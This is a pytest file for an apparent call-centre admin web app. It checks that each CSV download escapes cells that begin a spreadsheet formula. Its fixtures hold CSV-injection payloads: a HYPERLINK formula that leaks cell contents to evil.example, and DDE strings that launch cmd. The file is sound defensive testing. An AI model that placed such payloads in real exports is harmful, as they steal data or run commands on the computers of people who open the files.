"""Every CSV file a supervisor can download is safe to open in a spreadsheet: no cell starts
a formula, whichever value (clientId, data, note, number) carried one. One writer makes them
all (app/services/csv_files.py); a new CSV download needs a case here."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from app.extensions import db
from app.models import Attempt, BulkFailure, BulkJob, Call, IntakeLoad
from app.models.types import utcnow
from app.services.actors import Actor
from app.services.audit.trail import Change, record
from tests.admin.conftest import add_task, submit
from tests.dnc.dnc_support import put
from tests.intake.conftest import csv_text

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0"]
STARTS_A_FORMULA = tuple("=+-@\t\r")
PLAIN_NUMBER = re.compile(r"\+[0-9]+")


@pytest.fixture
def app(app, tmp_path):
    app.instance_path = str(tmp_path / "instance")  # where loads keep their files
    return app


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def download(client, url: str) -> str:
    response = client.get(url)
    try:
        assert response.status_code == 200, (url, response.status_code)
        assert response.mimetype == "text/csv"
        return response.get_data(as_text=True)
    finally:
        response.close()


def campaign_export(client, acme, renewals) -> str:
    for number, formula in enumerate(FORMULAS):
        add_task(renewals, formula, {"Name": formula, f"Note {number}": formula})
    return download(client, f"/tenants/{acme.id}/campaigns/{renewals.id}/export.csv")


def intake_report(client, acme, renewals) -> str:
    """An upload whose every row is refused (a phone number that is not one), each row's
    clientId a formula: the report names them all."""
    rows = [["Id", "Mobile Phone"], *([formula, "555"] for formula in FORMULAS)]
    content = io.BytesIO(csv_text(rows).encode())
    url = f"/tenants/{acme.id}/campaigns/{renewals.id}"
    assert submit(client, url, "/intake", {"file": (content, "tasks.csv")}).status_code == 302
    load = db.session.scalar(select(IntakeLoad))
    assert load.finished
    return download(client, f"/tenants/{acme.id}/loads/{load.id}/report.csv")


def dnc_export(client, acme, renewals) -> str:
    for number, formula in enumerate(FORMULAS):
        put(acme, f"+1415555010{number}", note=formula)
    return download(client, f"/tenants/{acme.id}/dnc/export.csv")


def bulk_failures(client, acme, renewals) -> str:
    """A bulk job's failures, each task's clientId and the reason a formula (the rows as the
    job writes them: this download's writer is what is checked)."""
    job = BulkJob(campaign=renewals, actor_kind="supervisor", actor_id="boss", action="delete")
    db.session.add(job)
    db.session.flush()
    for number, formula in enumerate(FORMULAS):
        task = add_task(renewals, f"c{number}")
        failure = BulkFailure(job_id=job.id, task_id=task.id, record_id=task.record_id,
                              client_id=formula, reason=formula)  # fmt: skip
        db.session.add(failure)
    db.session.commit()
    return download(client, f"/tenants/{acme.id}/bulk/{job.id}/failures.csv")


def report_agents(client, acme, renewals) -> str:
    """The Reports page's agents table: each agent's login a formula."""
    from tests.reports.generated import DAYS, START, generate

    end = START + timedelta(days=DAYS)
    shown = [a for a in generate(acme, count=40).attempts if START <= a.delivered_at < end]
    for attempt, formula in zip(shown, FORMULAS, strict=False):
        attempt.agent_login = formula
    db.session.commit()
    days = f"from={START.date()}&to={(end - timedelta(days=1)).date()}&zone=UTC"
    return download(client, f"/tenants/{acme.id}/reports/agents.csv?{days}")


def call_evidence(client, acme, renewals) -> str:
    """The calls with their evidence: each call's agent a formula, and its evidence's
    consent source one (the rows as the ledger keeps them: this download's writer is what is
    checked)."""
    now = utcnow()
    for number, formula in enumerate(FORMULAS):
        task = add_task(renewals, f"c{number}")
        attempt = Attempt(task_id=task.id, campaign_id=renewals.id, agent_id=1,
                          agent_login=formula, delivered_at=now)  # fmt: skip
        db.session.add(attempt)
        db.session.flush()
        evidence = {"consent": {"required": True, "recordId": 1, "givenAt": "", "source": formula}}
        db.session.add(Call(attempt_id=attempt.id, task_id=task.id, call_id=f"call-{number}",
                            phone_key="Phone", phone_number="+14155550100", started_at=now,
                            evidence=evidence))  # fmt: skip
    db.session.commit()
    day = now.date()
    return download(
        client, f"/tenants/{acme.id}/reports/call-evidence.csv?from={day}&to={day}&zone=UTC"
    )


def audit_trail(client, acme, renewals) -> str:
    """Records whose actor, entity and fields carry formulas."""
    for formula in FORMULAS:
        record(Actor.supervisor(formula), Change("user.added", "user", formula, acme.id,
                                                 after={"note": formula}))  # fmt: skip
    db.session.commit()
    return download(client, f"/tenants/{acme.id}/audit.csv?action=user.")


DOWNLOADS = {
    "admin.audit_trail_csv": audit_trail,
    "admin.call_evidence_csv": call_evidence,
    "admin.report_csv": report_agents,
    "admin.bulk_failures": bulk_failures,
    "admin.export_campaign": campaign_export,
    "admin.intake_report": intake_report,
    "admin.dnc_export": dnc_export,
}


def test_every_csv_download_of_the_app_is_checked_here(app):
    offered = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert offered == set(DOWNLOADS)


@pytest.mark.parametrize("endpoint", sorted(DOWNLOADS))
def test_no_cell_of_a_csv_download_starts_a_formula(signed_in, acme, renewals, endpoint):
    written = cells(DOWNLOADS[endpoint](signed_in, acme, renewals))
    # A cell that is exactly `+` and digits (a phone number) runs nothing and stays as it is.
    risky = [cell for cell in written if cell.startswith(STARTS_A_FORMULA)]
    assert [cell for cell in risky if not PLAIN_NUMBER.fullmatch(cell)] == []
    for formula in FORMULAS:  # each value is there, guarded
        assert "'" + formula in written, (endpoint, formula)


def test_one_writer_makes_every_csv_file():
    writers = [
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "app").rglob("*.py"))
        if "csv.writer(" in path.read_text()
    ]
    assert writers == ["app/services/csv_files.py"]
